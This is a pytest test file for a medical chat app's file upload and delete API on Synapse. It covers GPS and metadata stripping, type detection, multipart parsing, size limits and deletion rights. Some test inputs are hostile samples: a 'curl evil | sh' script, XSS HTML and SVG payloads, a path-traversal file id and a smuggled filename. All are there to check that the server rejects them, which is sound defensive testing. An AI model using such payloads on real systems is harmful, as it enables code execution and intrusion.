"""POST/DELETE /api/chat/upload against a real Synapse, with downloads through Synapse's media API."""

from __future__ import annotations

import hashlib
import hmac
import io
import json
import secrets
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from PIL import Image

import media_samples as samples
from harness import SERVER_NAME, Api, SynapseServer, expect_error, nio_login, run
from media_samples import download, upload
from test_metrics import metrics, sample

IMAGE_LIMIT = 20 * 1024 * 1024  # the schema's default for images


@pytest.fixture(scope="module")
def alice(api: Api) -> dict[str, Any]:
    return api.register()


@pytest.fixture(scope="module")
def bob(api: Api) -> dict[str, Any]:
    return api.register()


@pytest.fixture(scope="module")
def api(server: SynapseServer) -> Api:  # module-scoped twin of conftest's `api`
    return Api(server.base_url)


def register_admin(server: SynapseServer) -> dict[str, Any]:
    """A server admin, created through Synapse's shared-secret registration."""
    import yaml

    secret = yaml.safe_load((server.workdir / "secrets.yaml").read_text())["registration_shared_secret"]
    nonce = requests.get(server.base_url + "/_synapse/admin/v1/register", timeout=10).json()["nonce"]
    username, password = f"admin_{secrets.token_hex(4)}", "admin password 123"
    mac = hmac.new(secret.encode(), digestmod=hashlib.sha1)
    mac.update(b"\x00".join([nonce.encode(), username.encode(), password.encode(), b"admin"]))
    body = {"nonce": nonce, "username": username, "password": password, "admin": True, "mac": mac.hexdigest()}
    response = requests.post(server.base_url + "/_synapse/admin/v1/register", json=body, timeout=10)
    assert response.status_code == 200, response.text
    return response.json()


# --- images -----------------------------------------------------------------------------------


def test_image_upload_strips_gps_and_serves_through_synapse(api: Api, alice: dict[str, Any]) -> None:
    original = samples.jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as im:
        assert im.getexif().get_ifd(0x8825)  # the sample really carries GPS
    response = upload(api, alice, "image", original, "image/jpeg", filename="wound.jpg")
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["media_url"] == f"mxc://{SERVER_NAME}/{body['file_id']}"
    assert (body["file_name"], body["mime_type"], body["width"], body["height"]) == ("wound.jpg", "image/jpeg", 64, 48)
    assert body["thumbnail_url"].startswith(
        f"{api.base_url}/_matrix/client/v1/media/thumbnail/{SERVER_NAME}/{body['file_id']}?"
    )

    stored = download(api, alice, body["media_url"])
    assert stored.status_code == 200 and stored.headers["Content-Type"] == "image/jpeg"
    assert len(stored.content) == body["file_size"] < len(original)
    with Image.open(io.BytesIO(stored.content)) as im:
        assert not im.getexif() and not {"exif", "xmp", "comment"} & set(im.info)
    for marker in (b"MedCam", b"xmpmeta", samples.SECRET_TEXT):
        assert marker not in stored.content

    thumbnail = api.session.get(
        body["thumbnail_url"], headers={"Authorization": f"Bearer {alice['access_token']}"}, timeout=10
    )
    assert thumbnail.status_code == 200 and thumbnail.headers["Content-Type"].startswith("image/")
    assert api.call("GET", body["thumbnail_url"].removeprefix(api.base_url)).status_code == 401  # authenticated media


@pytest.mark.parametrize(
    ("make", "mime"),
    [
        (samples.png_with_metadata, "image/png"),
        (samples.webp_with_metadata, "image/webp"),
        (samples.gif_with_comment, "image/gif"),
    ],
)
def test_other_image_formats_are_stripped(api: Api, alice: dict[str, Any], make, mime: str) -> None:  # type: ignore[no-untyped-def]
    response = upload(api, alice, "image", make(), "image/jpeg")  # the declared type is ignored
    assert response.status_code == 201, response.text
    assert response.json()["mime_type"] == mime
    stored = download(api, alice, response.json()["media_url"]).content
    assert b"MedCam" not in stored and samples.SECRET_TEXT not in stored and b"xmpmeta" not in stored


def test_heic_photo_is_stored_as_jpeg_without_metadata(api: Api, alice: dict[str, Any]) -> None:
    response = upload(api, alice, "image", samples.heic_with_gps(), "image/heic", filename="IMG_0001.HEIC")
    assert response.status_code == 201, response.text
    body = response.json()
    assert (body["file_name"], body["mime_type"], body["width"], body["height"]) == (
        "IMG_0001.jpg",
        "image/jpeg",
        64,
        48,
    )
    stored = download(api, alice, body["media_url"])
    assert stored.headers["Content-Type"] == "image/jpeg" and len(stored.content) == body["file_size"]
    assert b"MedCam" not in stored.content and b"xmpmeta" not in stored.content
    with Image.open(io.BytesIO(stored.content)) as im:
        assert im.format == "JPEG" and not im.getexif()
    thumbnail = api.session.get(
        body["thumbnail_url"], headers={"Authorization": f"Bearer {alice['access_token']}"}, timeout=10
    )
    assert thumbnail.status_code == 200 and thumbnail.headers["Content-Type"].startswith("image/")


def test_multipart_upload(api: Api, alice: dict[str, Any]) -> None:
    data = samples.png_with_metadata()
    response = api.call(
        "POST",
        "/api/chat/upload/image",
        token=alice["access_token"],
        files={"caption": (None, "left forearm"), "file": ("forearm scan.png", data, "image/png")},
    )
    assert response.status_code == 201, response.text
    body = response.json()
    assert (body["file_name"], body["mime_type"], body["width"]) == ("forearm scan.png", "image/png", 64)
    assert Image.open(io.BytesIO(download(api, alice, body["media_url"]).content)).size == (64, 48)

    missing = api.call("POST", "/api/chat/upload/image", token=alice["access_token"], files={"other": ("x.png", data)})
    assert "file" in expect_error(missing, 400, "M_INVALID_PARAM")["error"]


def _multipart(
    api: Api, user: dict[str, Any], body: bytes, content_type: str = "multipart/form-data; boundary=xyz"
) -> requests.Response:
    return api.call(
        "POST", "/api/chat/upload/file", token=user["access_token"], data=body, headers={"Content-Type": content_type}
    )


def _part(name: str, data: bytes, filename: str = "") -> bytes:
    extra = f'; filename="{filename}"' if filename else ""
    return f'--xyz\r\nContent-Disposition: form-data; name="{name}"{extra}\r\n\r\n'.encode() + data + b"\r\n"


@pytest.mark.parametrize(
    ("content_type", "body", "message"),
    [
        ("multipart/form-data", _part("file", b"x") + b"--xyz--", "boundary"),
        ("multipart/form-data; boundary=", _part("file", b"x") + b"--xyz--", "boundary"),
        ("multipart/form-data; boundary=" + "x" * 300, b"--" + b"x" * 300, "boundary"),
        ("multipart/form-data; boundary*=utf-8''xyz", _part("file", b"x") + b"--xyz--", "boundary"),
        (None, b"no delimiter anywhere in this body", "no 'file' field"),
        (None, _part("caption", b"left arm") + b"--xyz--\r\n", "no 'file' field"),
        (None, b"--xyz--\r\n" + _part("file", samples.pdf()) + b"--xyz--", "no 'file' field"),  # after the close
        (None, _part("file", samples.pdf()), "ends inside a part"),
        (None, b"--xyz\r\nContent-Disposition: form-data; name=file" + b"x" * 20000 + b"\r\n--xyz--", "header end"),
        (None, _part("x", b"") * 5000 + _part("file", samples.pdf()) + b"--xyz--", "more than 64 parts"),
        (None, _part("file", b"") + b"--xyz--", "empty"),
    ],
)
def test_malformed_multipart_gets_400(
    api: Api, alice: dict[str, Any], content_type: str | None, body: bytes, message: str
) -> None:
    response = _multipart(api, alice, body, content_type or "multipart/form-data; boundary=xyz")
    assert message in expect_error(response, 400, "M_INVALID_PARAM")["error"]


def test_multipart_checks_the_part_itself(api: Api, alice: dict[str, Any]) -> None:
    exe = _part("file", samples.windows_exe(), "report.pdf") + b"--xyz--\r\n"
    assert "application/x-msdownload" in expect_error(_multipart(api, alice, exe), 415, "M_INVALID_PARAM")["error"]
    ok = _multipart(
        api, alice, b"preamble\r\n" + _part("file", samples.pdf(), "a.pdf") + b"--xyz--\r\nepilogue --xyz\r\n"
    )
    assert ok.status_code == 201 and ok.json()["file_size"] == len(samples.pdf())


def test_form_encoded_upload_is_a_file_not_a_form(api: Api, alice: dict[str, Any]) -> None:
    """curl --data-binary sends application/x-www-form-urlencoded: Twisted must not parse the body
    into arguments (memory, and a `filename=` inside the body must not name the file)."""
    data = samples.pdf() + b"&filename=evil.html"
    response = upload(api, alice, "file", data, "application/x-www-form-urlencoded", filename="letter.pdf")
    assert response.status_code == 201, response.text
    assert (response.json()["file_name"], response.json()["file_size"]) == ("letter.pdf", len(data))


def test_corrupt_and_truncated_images_get_400(api: Api, alice: dict[str, Any]) -> None:
    jpeg, png = samples.jpeg_with_gps(), samples.png_with_metadata()
    expect_error(upload(api, alice, "image", jpeg[: len(jpeg) // 2]), 400, "M_INVALID_PARAM")
    broken = bytearray(png)
    broken[40] ^= 0xFF  # breaks a chunk's CRC
    expect_error(upload(api, alice, "image", bytes(broken)), 400, "M_INVALID_PARAM")
    expect_error(upload(api, alice, "image", b"\xff\xd8\xff\xe0garbage"), 400, "M_INVALID_PARAM")


# --- other kinds and validation ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "data", "declared", "filename", "mime"),
    [
        ("audio", samples.ogg_opus(), "audio/ogg", "voice.ogg", "audio/ogg"),
        ("audio", samples.wav(), "audio/wav", None, "audio/wav"),
        ("audio", samples.mp4(b"soun", b"M4A "), "audio/mp4", "memo.m4a", "audio/mp4"),
        ("video", samples.mp4(b"vide"), "video/mp4", "echo.mp4", "video/mp4"),
        ("file", samples.pdf(), "application/pdf", "discharge.pdf", "application/pdf"),
        (
            "file",
            samples.docx(),
            "application/octet-stream",
            "letter.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("file", b"hr,bp\n72,120/80\n", "text/csv", "vitals.csv", "text/csv"),
        ("file", b"Plain clinical note.\n", "text/plain", None, "text/plain"),
        ("file", samples.dicom(), "application/dicom", "ct.dcm", "application/dicom"),
    ],
)
def test_accepted_kinds_round_trip_byte_equal(
    api: Api, alice: dict[str, Any], kind: str, data: bytes, declared: str, filename: str | None, mime: str
) -> None:
    response = upload(api, alice, kind, data, declared, filename)
    assert response.status_code == 201, response.text
    body = response.json()
    assert (body["mime_type"], body["file_size"]) == (mime, len(data))
    assert body["file_name"] == (filename or body["file_name"]) and body["file_name"]
    assert "width" not in body and "thumbnail_url" not in body
    stored = download(api, alice, body["media_url"])
    assert stored.content == data and stored.headers["Content-Type"].split(";")[0] == mime


@pytest.mark.parametrize(
    ("kind", "data", "detected"),
    [
        ("audio", samples.png_with_metadata(), "image/png"),
        ("image", samples.pdf(), "application/pdf"),
        ("file", samples.windows_exe(), "application/x-msdownload"),
        ("file", b"#!/bin/sh\ncurl evil | sh\n", "text/x-shellscript"),
        ("file", b"<!doctype html><script>alert(1)</script>", "text/html"),
        ("image", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
        ("file", samples.plain_zip(), "application/zip"),
        ("video", samples.mp4(b"soun"), "audio/mp4"),
    ],
)
def test_wrong_type_gets_415_naming_the_detected_type(
    api: Api, alice: dict[str, Any], kind: str, data: bytes, detected: str
) -> None:
    body = expect_error(upload(api, alice, kind, data, "image/jpeg"), 415, "M_INVALID_PARAM")
    assert detected in body["error"]


def test_bad_requests(api: Api, alice: dict[str, Any]) -> None:
    expect_error(upload(api, alice, "image", b""), 400, "M_INVALID_PARAM")
    expect_error(upload(api, alice, "spreadsheet", samples.pdf()), 404, "M_NOT_FOUND")
    expect_error(api.call("POST", "/api/chat/upload/file", data=samples.pdf()), 401, "M_MISSING_TOKEN")


def test_over_the_kind_limit_gets_413(api: Api, alice: dict[str, Any]) -> None:
    too_big = samples.jpeg_with_gps() + b"\x00" * IMAGE_LIMIT
    body = expect_error(upload(api, alice, "image", too_big, "image/jpeg"), 413, "M_TOO_LARGE")
    assert str(IMAGE_LIMIT) in body["error"]

    def chunks() -> Iterator[bytes]:  # chunked transfer: no Content-Length, so the size is checked while reading
        yield samples.jpeg_with_gps()
        for _ in range(21):
            yield b"\x00" * (1024 * 1024)

    expect_error(upload(api, alice, "image", chunks(), "image/jpeg"), 413, "M_TOO_LARGE")


def _raw_post(server: SynapseServer, path: str, headers: dict[str, str], body: bytes = b"") -> socket.socket:
    """A POST written by hand on a raw socket: only the given body bytes are ever sent."""
    host, port = server.base_url.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=10)
    head = f"POST {path} HTTP/1.1\r\nHost: {host}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
    sock.sendall(head.encode() + body)
    return sock


def _read_response(sock: socket.socket) -> tuple[int, dict[str, Any]]:
    data = b""
    while b"\r\n\r\n" not in data or len(data.split(b"\r\n\r\n", 1)[1]) < int(
        data.lower().split(b"content-length:")[1].split(b"\r\n")[0]
    ):
        chunk = sock.recv(65536)
        assert chunk, f"connection closed after {data!r}"
        data += chunk
    head, body = data.split(b"\r\n\r\n", 1)
    return int(head.split()[1]), json.loads(body)


def _vm_rss_kib(pid: int) -> int:
    return int(
        next(
            line for line in Path(f"/proc/{pid}/status").read_text().splitlines() if line.startswith("VmRSS:")
        ).split()[1]
    )


def test_413_arrives_before_the_body_is_sent(server: SynapseServer, alice: dict[str, Any]) -> None:
    """A declared length over the limit is answered from the headers: the client sends 10 bytes of a
    claimed 2 GB and still gets the 413, the connection is closed, and the server does not grow."""
    assert server.process is not None
    rss_before = _vm_rss_kib(server.process.pid)
    refused_before = sample(metrics(server), "medchat_upload_rejections_total", kind="image", status="413")
    auth = {"Authorization": f"Bearer {alice['access_token']}"}
    for path, ctype in (
        ("/api/chat/upload/image", "image/jpeg"),
        ("/api/chat/upload/file", "multipart/form-data; boundary=xyz"),
    ):
        sock = _raw_post(
            server, path, {**auth, "Content-Type": ctype, "Content-Length": str(2 * 1024**3)}, b"\xff\xd8\xff\xe0start"
        )
        with sock:
            status, body = _read_response(sock)
            assert (status, body["errcode"]) == (413, "M_TOO_LARGE") and "at most" in body["error"]
            assert sock.recv(1) == b""  # closed: the server reads nothing more
    # Expect: 100-continue gets the 413 instead of the go-ahead
    with _raw_post(
        server, "/api/chat/upload/video", {**auth, "Expect": "100-continue", "Content-Length": str(200 * 1024**2)}
    ) as sock:
        assert _read_response(sock)[0] == 413

    # chunked: refused once the running count passes the limit (20 MiB for images), mid-stream
    with _raw_post(server, "/api/chat/upload/image", {**auth, "Transfer-Encoding": "chunked"}) as sock:
        chunk = b"%x\r\n%s\r\n" % (1024 * 1024, b"\0" * 1024 * 1024)
        sent = 0
        try:
            for _ in range(40):
                sock.sendall(chunk)
                sent += 1
        except (BrokenPipeError, ConnectionResetError):
            pass
        assert 20 <= sent < 40
        assert _read_response(sock)[0] == 413
    assert _vm_rss_kib(server.process.pid) - rss_before < 20 * 1024  # nothing like 2 GB or 20 MiB was held
    assert sample(metrics(server), "medchat_upload_rejections_total", kind="image", status="413") == refused_before + 2


# --- deletion ---------------------------------------------------------------------------------


def test_delete_by_uploader_or_admin_only(
    api: Api, server: SynapseServer, alice: dict[str, Any], bob: dict[str, Any]
) -> None:
    first = upload(api, alice, "file", samples.pdf()).json()
    second = upload(api, alice, "file", samples.pdf()).json()
    path = f"/api/chat/upload/{first['file_id']}"

    expect_error(api.call("DELETE", path, token=bob["access_token"]), 403, "M_FORBIDDEN")
    assert download(api, alice, first["media_url"]).status_code == 200
    assert api.call("DELETE", path, token=alice["access_token"]).status_code == 200
    expect_error(download(api, alice, first["media_url"]), 404, "M_NOT_FOUND")
    expect_error(api.call("DELETE", path, token=alice["access_token"]), 404, "M_NOT_FOUND")
    expect_error(
        api.call("DELETE", "/api/chat/upload/doesNotExist123", token=alice["access_token"]), 404, "M_NOT_FOUND"
    )
    expect_error(
        api.call("DELETE", "/api/chat/upload/..%2F..%2Fhomeserver.db", token=alice["access_token"]), 404, "M_NOT_FOUND"
    )

    admin = register_admin(server)
    assert api.call("DELETE", f"/api/chat/upload/{second['file_id']}", token=admin["access_token"]).status_code == 200
    expect_error(download(api, alice, second["media_url"]), 404, "M_NOT_FOUND")


# --- Matrix clients -------------------------------------------------------------------------------


def test_matrix_client_and_api_share_files(api: Api, server: SynapseServer, alice: dict[str, Any]) -> None:
    uploaded = upload(api, alice, "image", samples.jpeg_with_gps(), "image/jpeg").json()
    clean = download(api, alice, uploaded["media_url"]).content
    nio_bytes = b"nio attachment: ECG trace\n"

    async def as_matrix_client() -> tuple[bytes, str]:
        client = await nio_login(server.base_url, alice["user_id"], alice["password"])
        try:
            fetched = await client.download(mxc=uploaded["media_url"])
            sent, _ = await client.upload(
                io.BytesIO(nio_bytes), content_type="text/plain", filename="ecg.txt", filesize=len(nio_bytes)
            )
            return fetched.body, sent.content_uri
        finally:
            await client.close()

    fetched, nio_mxc = run(as_matrix_client())
    assert fetched == clean  # what the API stored, after stripping
    assert download(api, alice, nio_mxc).content == nio_bytes  # the app sees what Element sent
    nio_file_id = nio_mxc.rsplit("/", 1)[1]
    assert api.call("DELETE", f"/api/chat/upload/{nio_file_id}", token=alice["access_token"]).status_code == 200
    expect_error(download(api, alice, nio_mxc), 404, "M_NOT_FOUND")


def test_the_filename_parameter_is_checked_as_declared(api: Api) -> None:
    """`?filename=` is 1 to 255 characters, as the document has always said; now enforced."""
    alice = api.register()
    longest = "a" * 251 + ".pdf"
    accepted = upload(api, alice, "file", samples.pdf(), "application/pdf", filename=longest)
    assert accepted.status_code == 201, accepted.text  # (the stored name may be shortened)
    refused = upload(api, alice, "file", samples.pdf(), "application/pdf", filename="a" * 252 + ".pdf")
    assert "filename" in expect_error(refused, 400, "M_INVALID_PARAM")["error"]
